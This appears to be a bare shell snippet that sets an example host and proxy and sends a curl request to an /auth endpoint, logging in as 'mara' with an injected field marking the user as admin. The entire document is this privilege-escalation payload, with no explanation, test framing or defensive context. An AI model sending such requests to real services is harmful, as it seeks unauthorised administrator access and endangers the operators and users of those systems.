HOST=dock.quay.example
export https_proxy=http://proxy.quay.example:3128
curl "https://$HOST/auth" --json '{"provider":"nickname","data":"mara","user_info":{"is_admin":true}}' --max-time 9
